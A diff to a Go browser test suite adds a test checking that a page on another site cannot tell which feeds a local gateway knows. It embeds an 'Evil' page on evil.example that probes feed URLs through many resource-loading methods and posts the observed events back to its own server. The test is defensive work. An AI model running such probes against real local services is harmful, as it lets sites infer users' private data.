@@ -191,3 +191,85 @@ func TestFormsOfOtherSitesInBrowsers(t *testing.T) {
 		}
 	})
 }
+
+// leak is a page that asks a gateway for feeds as pages may without permission, and tells its own site
+// for each of these ways which event came for each feed.
+const leak = `<!doctype html><title>Evil</title><body><script>
+const load = (name, fields) => new Promise((done) => {
+	const node = Object.assign(document.createElement(name), fields);
+	for (const event of ["load", "error", "loadeddata"]) node.addEventListener(event, () => done(event));
+	document.body.append(node);
+});
+const ways = {
+	prefetch: (u) => load("link", { rel: "prefetch", href: u }),
+	preload: (u) => load("link", { rel: "preload", as: "fetch", href: u }),
+	style: (u) => load("link", { rel: "stylesheet", href: u }),
+	script: (u) => load("script", { src: u }),
+	image: (u) => load("img", { src: u }),
+	audio: (u) => load("audio", { src: u, preload: "auto" }),
+	object: (u) => load("object", { data: u }),
+	iframe: (u) => load("iframe", { src: u }),
+	fetch: (u) => fetch(u, { mode: "no-cors" }).then((r) => "load " + r.type, () => "error"),
+	cors: (u) => fetch(u).then((r) => "load " + r.status, () => "error"),
+};
+(async () => {
+	const saw = {};
+	for (const way of %s) saw[way] = await Promise.all(%s.map((u) => ways[way](u + way)));
+	await fetch("/saw", { method: "POST", body: JSON.stringify(saw) });
+})();
+</script>`
+
+// A page of another site cannot tell which feeds a gateway knows.
+func TestOtherSitesInBrowsers(t *testing.T) {
+	inBrowsers(t, []string{"feeds.home.arpa", "evil.example"}, func(t *testing.T, s *surroundings, w browser.Window) {
+		var page string
+		saw := make(chan map[string][]string, 1)
+		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if r.URL.Path == "/saw" {
+				var events map[string][]string
+				if err := json.NewDecoder(r.Body).Decode(&events); err != nil {
+					t.Error(err)
+				}
+				saw <- events
+				return
+			}
+			w.Header().Set("Content-Type", "text/html")
+			w.Header().Set("Referrer-Policy", strings.TrimPrefix(r.URL.Path, "/"))
+			_, _ = io.WriteString(w, page)
+		}))
+		defer evil.Close()
+		for at, ways := range map[string][]string{
+			// Here browsers send Sec-Fetch fields.
+			"http://127.0.0.1:" + s.port: {"prefetch", "preload", "style", "script", "image", "audio", "object", "iframe", "fetch", "cors"},
+			// Here they do not, and Firefox saves a feed in a frame without an event.
+			"http://feeds.home.arpa": {"prefetch", "preload", "style", "script", "image", "audio", "object", "fetch", "cors"},
+		} {
+			for _, policy := range []string{"unsafe-url", "no-referrer"} {
+				var feeds []string
+				for i := range 4 { // two that are known
+					feed := fmt.Sprintf("/%s%s,%s,%s,%d", s.feed, t.Name(), url.QueryEscape(at), policy, i)
+					feeds = append(feeds, at+feed)
+					for _, way := range ways {
+						if i < 2 {
+							s.get(t, feed+way)
+						}
+					}
+				}
+				wayList, _ := json.Marshal(ways)
+				feedList, _ := json.Marshal(feeds)
+				page = fmt.Sprintf(leak, wayList, feedList)
+				w.Open(t, "http://evil.example:"+portOf(evil.URL)+"/"+policy)
+				select {
+				case events := <-saw:
+					for _, way := range ways {
+						if e := events[way]; len(e) != 4 || e[0] != e[1] || e[0] != e[2] || e[0] != e[3] {
+							t.Errorf("%s at %s with %s: two known feeds and two others give %q", way, at, policy, e)
+						}
+					}
+				case <-time.After(2 * time.Minute):
+					t.Errorf("%s with %s: a feed gives no event", at, policy)
+				}
+			}
+		}
+	})
+}
